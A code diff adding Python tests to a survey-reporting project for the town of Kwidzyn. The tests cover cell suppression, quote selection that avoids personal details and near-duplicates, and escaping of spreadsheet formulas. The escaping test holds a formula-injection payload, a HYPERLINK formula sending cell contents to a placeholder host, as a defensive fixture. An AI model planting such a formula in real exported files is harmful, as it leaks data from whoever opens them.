@@ -263,3 +263,55 @@ def test_the_evidence_files_publish_nothing_of_a_hidden_cell(kwidzyn, tmp_path):
         shown = table[~table["suppressed"].astype(bool) & table["n_numerator"].notna()]
         assert (shown["n_numerator"] >= 10).all()
         assert not (shown["n"] - shown["n_numerator"]).between(1, 9).any()
+
+
+def test_quotes_are_chosen_among_confidently_clean_answers_only():
+    from diagnosis.evidence import choose_quotes
+
+    longest = "Dzwońcie do mnie wieczorem pod 600 12 34 56, mam pomysł na festyn w parku nad rzeką."
+    answers = pd.Series([
+        longest,  # the longest, and a phone the redactor might not read: never quoted
+        "Proszę o kontakt [telefon], chętnie pomogę przy sprzątaniu parku miejskiego.",
+        "Anna K. z biblioteki mogłaby prowadzić kółko szachowe dla dzieci.",
+        "Brakuje miejsc spotkań dla młodzieży w centrum miasta.",
+        "Więcej koncertów i potańcówek w parku nad jeziorem latem.",
+    ])  # fmt: skip
+    assert choose_quotes(answers) == [
+        "Więcej koncertów i potańcówek w parku nad jeziorem latem.",
+        "Brakuje miejsc spotkań dla młodzieży w centrum miasta.",
+    ]
+
+
+def test_no_two_quotes_are_near_duplicates(kwidzyn):
+    import re
+
+    texts = kwidzyn.quotes["text"].tolist()
+    assert len(texts) >= 6
+    runs = [
+        {tuple(w[i : i + 5]) for i in range(len(w) - 4)}
+        for w in (re.findall(r"\w+", t.lower()) for t in texts)
+    ]
+    for i in range(len(runs)):
+        for j in range(i):
+            assert not runs[i] & runs[j], (texts[i], texts[j])
+
+
+def test_no_cell_of_the_evidence_spreadsheets_starts_a_formula(kwidzyn, tmp_path):
+    import dataclasses
+
+    import openpyxl
+
+    from diagnosis.evidence import write_evidence
+
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Kwidzyn")'
+    town = dataclasses.replace(kwidzyn.town, slug=evil)
+    files = write_evidence(dataclasses.replace(kwidzyn, town=town), (), tmp_path)
+    csv = pd.read_csv(files.csv, encoding="utf-8-sig")
+    assert set(csv["town"]) == {"'" + evil}
+    book = openpyxl.load_workbook(files.xlsx)
+    texts = [c.value for row in book["indicators"].iter_rows() for c in row
+             if isinstance(c.value, str)]  # fmt: skip
+    assert "'" + evil in texts
+    assert not [t for t in texts if t[:1] in "=+-@\t\r"]
+    # numbers stay numbers
+    assert pd.api.types.is_float_dtype(csv["estimate"])
